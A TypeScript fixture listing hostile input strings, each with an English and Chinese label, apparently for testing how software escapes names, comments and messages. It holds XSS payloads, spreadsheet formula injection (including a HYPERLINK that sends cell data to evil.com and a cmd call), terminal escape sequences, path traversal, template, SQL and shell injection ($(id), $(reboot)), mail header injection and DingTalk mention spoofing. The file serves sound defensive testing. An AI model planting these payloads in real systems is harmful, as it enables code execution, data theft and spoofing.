export interface Hostile {
  /** What it tries, in plain words. */
  readonly en: string;
  readonly zh: string;
  readonly text: string;
}

/** What a thief would write wherever he may write something: into names, comments, user agents, object keys, messages. */
export const STRINGS: readonly Hostile[] = [
  { en: 'HTML', zh: 'HTML', text: '"><script>window.pwned=1</script><img src=x onerror="window.pwned=2">' },
  {
    en: 'HTML in a comment or a title',
    zh: 'HTML（注释或标题中）',
    text: '--></title><svg/onload=window.pwned=3><!--',
  },
  {
    en: 'CSS and frames',
    zh: 'CSS 与框架',
    text: '</style><iframe src="javascript:window.pwned=4"></iframe><base href=//evil.com>',
  },
  { en: 'HTML references', zh: 'HTML 实体', text: '&lt;script&gt;&#60;b&#62;&#x3c;i&#x3e;' },
  {
    en: 'Markdown',
    zh: 'Markdown',
    text: '](http://evil.com) ![x](http://evil.com/x.png) **b** `c` <u>\n# h\n> q\n1. l',
  },
  { en: 'DingTalk mentions', zh: '钉钉 @', text: '@all @13800000000 @manager123 <@all>' },
  {
    en: 'the fields of a DingTalk message',
    zh: '钉钉消息字段',
    text: '","at":{"isAtAll":true,"atMobiles":["13800000000"]},"x":"',
  },
  { en: 'a formula', zh: '公式', text: "=cmd|' /C calc'!A0" },
  { en: 'a formula with +', zh: '公式（+）', text: '+HYPERLINK("http://evil.com?x="&A1,"x")' },
  { en: 'a formula behind a tab', zh: '公式（制表符后）', text: '\t=1+1' },
  { en: 'a formula behind a return', zh: '公式（回车后）', text: '\r\n@SUM(1+1)*cmd|x!A0' },
  { en: 'a full-width formula', zh: '全角公式', text: '＝1+1","=2+2' },
  {
    en: 'colours and titles of a terminal',
    zh: '终端颜色与标题',
    text: '\u001b[31mred\u001b[2J\u001b]0;owned\u0007\u009b1mx',
  },
  {
    en: 'a link of a terminal',
    zh: '终端链接',
    text: '\u001b]8;;http://evil.com\u001b\\click\u001b]8;;\u001b\\\u001bP1;2|x',
  },
  { en: 'a path', zh: '路径', text: '../../../../etc/cron.d/x' },
  { en: 'a path of Windows', zh: 'Windows 路径', text: '..\\..\\C:\\x%2e%2e%2f..%5c' },
  { en: 'NUL and other control characters', zh: 'NUL 与控制字符', text: 'a\u0000b\u0008\u007f\u0085\u2028\u2029c' },
  { en: '10 KB', zh: '10 KB', text: `x${'A'.repeat(10_240)}` },
  { en: '10 KB of references', zh: '10 KB 的 &', text: '&<@'.repeat(3_500) },
  { en: 'right to left', zh: '从右到左', text: 'moc.live\u202e\u2066\u2067\u200f gpj.exe\u2069\u061c' },
  { en: 'what nobody sees', zh: '不可见字符', text: 'ad\u200bmin\u2060\ufeff\u00ad\u{e0041}' },
  { en: 'half a character', zh: '半个字符', text: 'a\ud800b\udc00c' },
  { en: 'letters that look alike', zh: '形似字符', text: 'аdmin-ⅼogin' },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the point of it
  { en: 'templates', zh: '模板', text: '${7*7}{{7*7}}<%= 7*7 %>#{7*7}%s%n$(id)`id`' },
  { en: 'a mail header', zh: '邮件头', text: 'x\r\nBcc: victim@example.com\r\nContent-Type: text/html\r\n\r\n<b>' },
  { en: 'an address', zh: '网址', text: 'https://evil.com/?a=b dingtalk://x javascript:alert(1) www.evil.com' },
  { en: 'words of JavaScript objects', zh: 'JavaScript 内置名', text: '__proto__' },
  {
    en: 'quotes of JSON, SQL and shells',
    zh: 'JSON、SQL 与命令行引号',
    text: '\'"; DROP TABLE x;--\\"}],"a":"$(reboot)',
  },
];
